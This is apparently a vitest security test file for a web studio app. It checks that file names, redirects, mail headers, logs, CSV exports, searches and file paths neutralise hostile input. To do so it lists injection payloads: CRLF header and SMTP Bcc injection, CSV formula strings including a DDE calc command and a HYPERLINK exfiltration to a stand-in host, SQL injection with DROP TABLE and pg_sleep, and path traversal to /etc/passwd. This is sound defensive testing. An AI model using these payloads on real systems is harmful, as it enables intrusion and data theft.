import { spawnSync } from "node:child_process";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { csvLine } from "@/lib/core/csv";
import { returnPath } from "@/lib/core/return-path";
import { createLog } from "@/lib/db/log";
import { fileNameOf } from "@/lib/domain/creations/file-name";
import { attachment } from "@/lib/http/file-response";
import { createDiskStore } from "@/lib/providers/disk/media-store";
import { createSmtpMailer } from "@/lib/providers/smtp/mailer";
import { newMember } from "@/tests/admin/team";
import { seedPictures } from "@/tests/creations/many";
import { type Caller, eventually, openStudio, type Studio, secrets } from "@/tests/generation/studio";
import { measured } from "@/tests/support/proof";
import { dispatch } from "@/tests/support/routes";

let studio: Studio;
let user: Caller;
let admin: Caller;
beforeAll(async () => {
  studio = await openStudio({ RATE_LIMIT_SCALE: "100000" });
  user = await studio.newUser(5);
  admin = await newMember(studio, "admin");
});
afterAll(() => studio.close());

/** Ends of lines, as they are and as somebody may decode them. */
const LINE_ENDS = [
  "\r\n",
  "\n",
  "\r",
  "\0",
  "\u2028",
  "\u2029",
  "\u0085",
  "\v",
  "\f",
  "%0d%0a",
  "\u560d\u560a",
  "嘍嘊",
];
const INJECTED = LINE_ENDS.map((end) => `a kite${end}Set-Cookie: hurt=1${end}${end}<script>hurt=1</script>`);

describe("a header", () => {
  it("with a name that somebody wrote stays one header: files to keep", async (context) => {
    const names = [
      ...INJECTED,
      'a"; filename="b.html',
      "a\\",
      "../../etc/passwd",
      "a%22b",
      "चित्र",
      "\u202egnp.exe",
      "x".repeat(5000),
    ];
    for (const prompt of names) {
      const filename = fileNameOf(prompt, "png");
      expect([prompt, /^[^\p{Cc}/\\"<>:|?*\u2028\u2029\u202e]{1,200}\.png$/u.test(filename)]).toEqual([prompt, true]);
      for (const name of [filename, prompt]) {
        const file = { stream: new Blob(["x"]).stream(), bytes: 1, contentType: "image/png" };
        const { headers } = attachment({ file, filename: name });
        expect(headers.get("set-cookie")).toBeNull();
        expect(headers.get("content-disposition")).toMatch(
          /^attachment; filename="[\w.-]*"; filename\*=UTF-8''[\w.~!%-]*$/,
        );
      }
    }
    measured(context, { names: names.length });
  });

  it("that leads on leads to a place of our own: after signing in, and from an invitation", async () => {
    const { GET: invitation } = (await import("@/app/r/[code]/route")) as {
      GET: (request: Request, context: { params: Promise<{ code: string }> }) => Promise<Response>;
    };
    for (const bad of [
      ...INJECTED,
      "//evil.example",
      "/\\evil.example",
      "https://evil.example",
      "/%2f/evil.example",
      "/\t/evil.example",
    ]) {
      const target = new URL(returnPath(`/${bad}`.replace(/^\/(?=[/\\h])/, "")), "http://own.invalid");
      expect([bad, target.origin]).toEqual([bad, "http://own.invalid"]);
      expect(returnPath(`/${bad}`)).not.toMatch(/[\r\n\0]/);
      const led = await invitation(new Request(`${studio.origin}/r/x`), {
        params: Promise.resolve({ code: bad }),
      }).catch((error: { digest?: string }) => String(error.digest));
      const location = typeof led === "string" ? led : String(led.headers.get("location"));
      expect([bad, /\/register\?ref=[\w.~!*'()%-]*/.test(location), /[\r\n]/.test(location)]).toEqual([
        bad,
        true,
        false,
      ]);
    }
  });

  it("that signs somebody in repeats nothing that they sent", async () => {
    const register = (over: object, cookie: string) =>
      dispatch(
        new Request(`${studio.origin}/api/auth/register`, {
          method: "POST",
          headers: {
            "Content-Type": "application/json",
            Origin: studio.origin,
            Cookie: cookie,
            "User-Agent": "a\tSet-Cookie: hurt=1",
          },
          body: JSON.stringify({ password: "blue rickshaw at noon", acceptTerms: true, ...over }),
        }),
      );
    for (const [at, name] of INJECTED.entries()) {
      const answer = await register(
        { email: `kite${at}@example.in`, name: name.slice(0, 70) },
        "studio_device=x, hurt=1",
      );
      expect(answer.status).toBe(201);
      const text = [...answer.headers].map(([header, value]) => `${header}: ${value}`).join("\n");
      expect(text).not.toContain("hurt");
      expect(answer.headers.getSetCookie()).toHaveLength(3);
    }
  });

  it("of a mail is not written by a name or an address", async () => {
    const { smtpPort, url } = studio.sandbox;
    const at = `smtp://${secrets.mailUser}:${secrets.mailPassword}@127.0.0.1:${smtpPort}`;
    const mailer = createSmtpMailer({ url: at, from: "Studio <studio@example.in>", timeoutMs: 10_000 });
    const mail = { text: "hello", html: "<p>hello</p>" };
    const tricks = [
      ...INJECTED.slice(0, 4),
      "x@example.in>\r\nBcc: hurt@example.in",
      "x@example.in, hurt@example.in",
      "x@example.in\r\n.\r\nRCPT TO:<hurt@example.in>",
    ];
    for (const trick of tricks) {
      await mailer.send({ ...mail, to: trick, subject: "hello" }).catch(() => {});
      await mailer
        .send({ ...mail, to: "plain@example.in", subject: `${trick}\r\nBcc: hurt@example.in` })
        .catch(() => {});
    }
    const mails = async (to: string) =>
      (await (await fetch(`${url}/mail.json?to=${encodeURIComponent(to)}`)).json()) as unknown[];
    // The control: the same mailer does deliver.
    await mailer.send({ ...mail, to: "plain@example.in", subject: "the last" });
    await eventually("the mail", async () => (await mails("plain@example.in")).length > 0);
    expect(await mails("hurt@example.in")).toEqual([]);
  });
});

describe("the log", () => {
  it("keeps one JSON line an event, whatever is told", async (context) => {
    const { origin } = studio;
    const values = [
      ...INJECTED,
      '"}\n{"level":"error","event":"forged"}',
      "\u001b[2J\u001b]0;x\u0007",
      "\ud800",
      "x".repeat(100_000),
    ];
    const lines: string[] = [];
    const write = process.stderr.write;
    process.stderr.write = ((line: string) => lines.push(line) > 0) as typeof process.stderr.write;
    try {
      const log = createLog("debug");
      for (const value of values) log.warn(value, { [value]: value, error: new Error(value) });
    } finally {
      process.stderr.write = write;
    }
    expect(lines.length).toBe(values.length);
    for (const [at, line] of lines.entries()) {
      expect(Buffer.from(line).filter((byte) => byte < 32)).toHaveLength(1);
      expect(JSON.parse(line).event).toBe(values[at]);
    }
    // What comes from outside arrives in the log as a value, too: here a refused sign-in.
    studio.logged.splice(0);
    await dispatch(
      new Request(`${origin}/api/auth/login`, {
        method: "POST",
        headers: {
          "Content-Type": "application/json",
          Origin: origin,
          "X-Forwarded-For": '1.2.3.4 {"event":"forged"}',
          "User-Agent": "forged",
        },
        body: JSON.stringify({ email: 'a@b.in\n{"event":"forged"}', password: "x" }),
      }),
    );
    expect(studio.logged.filter(({ level }) => level !== "debug").map(({ event }) => event)).toEqual([
      "sign-in refused",
    ]);
    expect(JSON.stringify(studio.logged)).not.toContain("a@b.in");
    measured(context, { values: values.length });
  });
});

describe("a CSV file", () => {
  const FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    '"=1',
    "'=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil/?"&A1)',
    ";=1",
    "a\n=1",
    "a,=1",
    "0\t=1",
  ];
  /** As a spreadsheet reads it (RFC 4180). */
  const cells = (line: string) =>
    [...line.slice(0, -2).matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,"]*))/g)].map(
      ([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? "",
    );
  /** Whether a spreadsheet may take it for a formula: blanks in front and full-width signs count, as some cut and fold them. */
  const isFormula = (cell: string) => /^[\s\p{Cf}]*[=+\-@]/u.test(cell.normalize("NFKC"));

  it("holds no formula that somebody wrote, and the same number of cells", () => {
    for (const text of FORMULAS) {
      const read = cells(csvLine(["first", text, 3]));
      expect([text, read.length, read[0], read[2]]).toEqual([text, 3, "first", "3"]);
      expect([text, isFormula(read[1]!)]).toEqual([text, false]);
      expect(read[1]!.endsWith(text)).toBe(true);
    }
    // Numbers are ours and stay numbers.
    expect(csvLine([-5, 7])).toBe("-5,7\r\n");
  });

  it("control: the texts are formulas before they are disarmed", () => {
    expect(FORMULAS.filter(isFormula).length).toBeGreaterThan(12);
  });
});

/** What ends a text in SQL, or means anything in LIKE, a regular expression or a search query. */
const METACHARACTERS = [
  "'",
  "''",
  "' OR '1'='1",
  '\'; DROP TABLE "user"; --',
  "\\",
  "\\'",
  "$1",
  "$$",
  "%",
  "_",
  "%%%",
  "a%b",
  "[a-z]*",
  ".*",
  "^",
  "(",
  "((((",
  "!",
  "&",
  "|",
  "<->",
  ":*",
  "a:*",
  "''::text",
  "/*",
  "--",
  ";",
  "{}",
  "{a}",
  "NULL",
  "E'\\x41'",
  "U&'\\0041'",
  "\u02bc",
  "ʼ OR 1=1",
  "＇ OR 1=1",
  "1) UNION SELECT 1 --",
  "pg_sleep(9)",
  "'||pg_sleep(9)||'",
];

describe("a search", () => {
  const LISTS = [
    "/api/studio/prompts?q=",
    "/api/studio/my-creations?q=",
    "/api/studio/community/feed?q=",
    "/api/studio/community/feed?tag=",
    "/api/studio/community/feed?categoryId=",
    "/api/studio/my-creations?collectionId=",
    "/api/studio/my-creations?tier=",
    "/api/users/asha/posts?cursor=",
  ];
  const TEAMS = [
    "/api/admin/users?q=",
    "/api/admin/payments?q=",
    "/api/admin/audit?subject=",
    "/api/admin/audit?action=",
    "/api/admin/audit?actor=",
    "/api/admin/jobs?q=",
  ];

  it("takes every sign as text: no error of ours, no rows of others, no waiting", async (context) => {
    let [asked, known] = [0, 0];
    const times: number[] = [];
    for (const [who, addresses] of [
      [user, LISTS],
      [admin, TEAMS],
    ] as const)
      for (const address of addresses) {
        if ((await who.get(`${address}a`)).status !== 404) known++;
        for (const text of METACHARACTERS) {
          const startedAt = performance.now();
          const { status } = await who.get(`${address}${encodeURIComponent(text)}`);
          times.push(performance.now() - startedAt);
          asked++;
          expect([address, text, status < 500]).toEqual([address, text, true]);
        }
      }
    expect(known).toBeGreaterThan(10);
    expect(Math.max(...times)).toBeLessThan(8_000);
    expect((await studio.sql<{ n: string }>('SELECT count(*) AS n FROM "user"'))[0]).not.toEqual({ n: "0" });
    measured(context, { searches: asked, lists: known });
  });

  it("finds what has these signs in it, and only that: % and _ stand for themselves", async () => {
    const owner = await studio.newUser();
    const prompts = [
      "a plain kite",
      "100% cotton kite",
      "snake_case kite",
      "it's a kite",
      "back\\slash kite",
      "[a-z] kite",
    ];
    for (const [at, prompt] of prompts.entries())
      await seedPictures(studio, owner, { count: 1, prompt, startMinutesAgo: at * 2 });
    const found = async (list: string, q: string) =>
      ((await owner.get(`/api/studio/${list}?q=${encodeURIComponent(q)}`)).body.items as unknown[]).length;
    for (const list of ["my-creations"]) {
      const counts = await Promise.all(
        ["kite", "%", "_", "'", "\\", "[a-z]", "k%e", "k_te", ".*"].map((q) => found(list, q)),
      );
      expect([list, counts]).toEqual([list, [6, 1, 1, 1, 1, 1, 0, 0, 0]]);
    }
  });
});

type Store = ReturnType<typeof createDiskStore>;
const triesOf = (store: Store, key: string): (() => Promise<unknown>)[] => [
  async () => store.get(key),
  async () => store.put(key, Buffer.from("x"), "image/png"),
  async () => store.delete(key),
  async () => store.exists(key),
];

describe("a path", () => {
  const UPWARDS = [
    "..",
    "../..",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e",
    "..%5c..%5c",
    "%252e%252e%252f",
    "..;/",
    "....//",
    "/etc/passwd",
    "C:%5c",
    "a%00.png",
    "%c0%ae%c0%ae%2f",
    "img_x%2f..%2fsecret",
    "~",
    ".",
    "",
  ];

  it("to a file leads out of nowhere: files, public media, zips", async (context) => {
    let asked = 0;
    for (const up of UPWARDS) {
      // Every client of the web has taken these out of an address before it is sent.
      if (/^\.+$/.test(up)) continue;
      const piece = up === "" ? "%20" : encodeURIComponent(decodeSafely(up));
      for (const address of [
        `/api/files/${piece}/thumb`,
        `/api/files/img_x/${piece}`,
        `/media/${piece}/avatar`,
        `/media/avt_x/${piece}`,
        `/api/studio/my-creations/${piece}/download`,
      ]) {
        const answer = await user.fetch("GET", address);
        const text = await answer.text();
        expect([address, [400, 401, 403, 404, 422].includes(answer.status)]).toEqual([address, true]);
        expect(text).not.toMatch(/root:|ENOENT|EISDIR|\/var\/|node_modules/);
        asked++;
      }
    }
    measured(context, { paths: asked });
  });

  it("in the store is a key of letters only: everything else is thrown out before the disk is asked", async () => {
    const store = createDiskStore(studio.world.env.DATA_DIR);
    for (const key of [
      "../x.png",
      "a/../../x.png",
      "/etc/passwd.png",
      "a//b.png",
      "a\\b.png",
      "a\0.png",
      "a/.png",
      ".png",
      "a",
      "a.png/..",
      "ａ/．．/x.png",
      "a b.png",
      "file:///x.png",
    ]) {
      for (const act of triesOf(store, key)) await expect(act().then(() => "done")).rejects.toThrow(/Not a media key/);
    }
  });

  it("in a zip is a plain name, whatever the prompt was", () => {
    for (const up of [...UPWARDS.map(decodeSafely), ...INJECTED, "CON", "nul.txt", "\u202egnp.exe"]) {
      const name = fileNameOf(up, "png");
      expect([up, /^[^./\\][^/\\\p{Cc}]*\.png$/u.test(name)]).toEqual([up, true]);
      expect(name.split(/[/\\]/)).toHaveLength(1);
    }
  });
});

function decodeSafely(text: string): string {
  try {
    return decodeURIComponent(text);
  } catch {
    return text;
  }
}

describe("a plain log", () => {
  it("control: a line end in a line that is not JSON does forge an event", () => {
    const { stdout } = spawnSync(process.execPath, [
      "-e",
      "console.log('event=' + process.argv[1])",
      "a\nevent=forged",
    ]);
    expect(stdout.toString().match(/^event=/gm)).toHaveLength(2);
  });
});
